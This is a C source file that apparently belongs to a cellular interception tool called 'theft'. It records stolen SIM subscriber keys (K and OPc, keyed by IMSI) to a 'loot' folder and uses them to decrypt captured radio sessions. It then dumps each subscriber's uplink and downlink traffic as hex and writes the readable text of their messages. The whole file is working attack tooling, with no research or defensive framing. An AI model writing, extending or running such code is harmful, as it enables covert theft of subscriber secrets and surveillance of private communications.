#include "theft/loot.h"

#include <ctype.h>
#include <errno.h>
#include <string.h>

static FILE *create(const char *folder, const char *name, const char *mode)
{
	char path[512];

	(void)snprintf(path, sizeof(path), "%s/%s", folder, name);
	return fopen(path, mode);
}

static int open_all(struct loot *loot, const char *folder, const char *mode, struct fault *fault)
{
	memset(loot, 0, sizeof(*loot));
	loot->keys = create(folder, "keys.jsonl", mode);
	loot->traffic = create(folder, "traffic.jsonl", mode);
	loot->messages = create(folder, "messages.txt", mode);
	if (loot->keys && loot->traffic && loot->messages)
		return 0;
	return fault_set(fault, FAULT_SYSTEM, NULL, "cannot write in %s: %s", folder, strerror(errno));
}

int loot_open(struct loot *loot, const char *folder, struct fault *fault)
{
	return open_all(loot, folder, "we", fault);
}

int loot_go_on(struct loot *loot, const char *folder, struct fault *fault)
{
	return open_all(loot, folder, "ae", fault);
}

static int close_one(FILE *file)
{
	int bad = ferror(file);

	return fclose(file) != 0 || bad;
}

int loot_close(struct loot *loot, struct fault *fault)
{
	if (close_one(loot->keys) | close_one(loot->traffic) | close_one(loot->messages))
		return fault_set(fault, FAULT_SYSTEM, "make room on the disk", "cannot write the loot");
	return 0;
}

static void hex(FILE *file, const uint8_t *bytes, size_t length)
{
	size_t i;

	for (i = 0; i < length; i++)
		fprintf(file, "%02x", bytes[i]);
}

/* The text inside an IPv4 packet with a UDP or TCP-like payload: its printable tail. */
static void message(FILE *file, const char *imsi, const struct pdu *pdu)
{
	size_t from = pdu->length > 28 && pdu->data[0] == 0x45 ? 28 : 0, i;

	fprintf(file, "%s %s: ", imsi, pdu->direction == UPLINK ? "says " : "hears");
	for (i = from; i < pdu->length; i++)
		fputc(isprint(pdu->data[i]) ? pdu->data[i] : '.', file);
	fputc('\n', file);
}

void loot_pdu(struct loot *loot, uint16_t rnti, const char *imsi, const struct pdu *pdu)
{
	fprintf(loot->traffic, "{\"rnti\":%u,\"imsi\":\"%s\",\"direction\":\"%s\",\"count\":%u,\"data\":\"",
		rnti, imsi, pdu->direction == UPLINK ? "uplink" : "downlink", pdu->count);
	hex(loot->traffic, pdu->data, pdu->length);
	fputs("\"}\n", loot->traffic);
	message(loot->messages, imsi, pdu);
}

static void write_session(struct loot *loot, const struct session *session)
{
	size_t i;

	for (i = 0; i < session->pdu_count; i++)
		loot_pdu(loot, session->rnti, session->imsi, &session->pdus[i]);
	loot->session_count++;
}

void loot_key(struct loot *loot, struct record *record, const struct stolen_key *key, const char *from)
{
	size_t i;

	fprintf(loot->keys, "{\"imsi\":\"%s\",\"k\":\"", key->imsi);
	hex(loot->keys, key->k, 16);
	fputs("\",\"opc\":\"", loot->keys);
	hex(loot->keys, key->opc, 16);
	fprintf(loot->keys, "\",\"from\":\"%s\"}\n", from);
	loot->key_count++;
	for (i = 0; i < record->count; i++)
		if (!strcmp(record->sessions[i].imsi, key->imsi) && break_in_open(&record->sessions[i], key))
			write_session(loot, &record->sessions[i]);
}
